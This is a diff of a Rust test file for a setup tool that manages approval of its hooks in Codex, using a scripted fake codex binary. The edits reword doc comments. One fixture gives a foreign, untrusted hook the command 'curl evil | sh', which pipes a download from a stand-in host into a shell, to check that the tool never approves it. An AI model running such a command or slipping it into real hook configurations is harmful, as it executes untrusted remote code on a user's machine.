@@ -1,4 +1,4 @@
-//! Codex's trust, asked of a `codex` that says what a test wants, and of a real one:
+//! Codex's approvals, tested with a scripted `codex`, and with a real one:
 //! `TENTER_CODEX=/path/to/codex cargo test -p tenter-setup --test it codex_trust:: -- --ignored`
 #![cfg(unix)]
 
@@ -20,7 +20,7 @@ use tenter_setup::survey::{HostState, survey};
 
 const OURS: &str = "/opt/tenter hook codex";
 
-/// Behaves as Codex does: answers late, and leaves without an answer when its input ends.
+/// Behaves like Codex: answers late, and exits without an answer when its stdin ends.
 const CODEX: &str = r#"#!/bin/sh
 here=$(dirname "$0")
 printf '%s\n' "$*" > "$here/arguments"
@@ -70,7 +70,7 @@ impl Machine {
         Self { top, places, _folder: folder }
     }
 
-    /// A machine whose Codex answers the list with these hooks.
+    /// A machine whose Codex lists these hooks.
     fn listing(hooks: &[Value]) -> Self {
         let machine = Self::new();
         machine.program(CODEX);
@@ -113,7 +113,7 @@ impl Machine {
         fs::read_to_string(self.path(name)).unwrap()
     }
 
-    /// What Codex was asked, by method.
+    /// Requests that Codex received, by method.
     fn asked(&self, method: &str) -> Vec<Value> {
         let text = fs::read_to_string(self.path("bin/asked")).unwrap_or_default();
         let lines = text.lines().map(|line| serde_json::from_str::<Value>(line).unwrap());
@@ -385,7 +385,7 @@ mod grant {
     const B: &str = "/u/.codex/hooks.json:stop:0:0";
     const OTHER: &str = "/u/.codex/hooks.json:stop:0:1";
 
-    /// A machine with two hooks of ours and one of somebody else, which trusts ours once they are granted.
+    /// A machine with two hooks of ours and a foreign one, which trusts ours once approved.
     fn machine() -> Machine {
         let before = [hook(A, OURS, "untrusted"), hook(B, OURS, "modified"), others()];
         let machine = Machine::listing(&before);
@@ -398,7 +398,7 @@ mod grant {
         hook(OTHER, "curl evil | sh", "untrusted")
     }
 
-    /// Nothing was granted, and why.
+    /// Checks that nothing was approved, and why.
     fn refused(machine: &Machine, keys: &[&str]) -> String {
         let error = machine.grant(OURS, keys).unwrap_err();
         assert_eq!(machine.asked("config/batchWrite"), Vec::<Value>::new());
@@ -755,7 +755,7 @@ mod forgetting {
         vec![A.to_owned(), B.to_owned()]
     }
 
-    /// As Codex 0.166.0 writes approvals at the end of a file.
+    /// The text after Codex 0.166.0 has appended approvals.
     fn approved(before: &str) -> String {
         let blank = if before.is_empty() { "" } else { "\n" };
         format!(
@@ -809,7 +809,7 @@ mod forgetting {
     }
 }
 
-/// The way of a user with the real client: written, untrusted, granted, trusted, changed, modified.
+/// A user's steps with the real client: written, untrusted, approved, trusted, changed, modified.
 #[test]
 #[ignore = "needs a real codex in TENTER_CODEX"]
 #[expect(clippy::disallowed_methods, reason = "whoever runs the test says where codex is")]
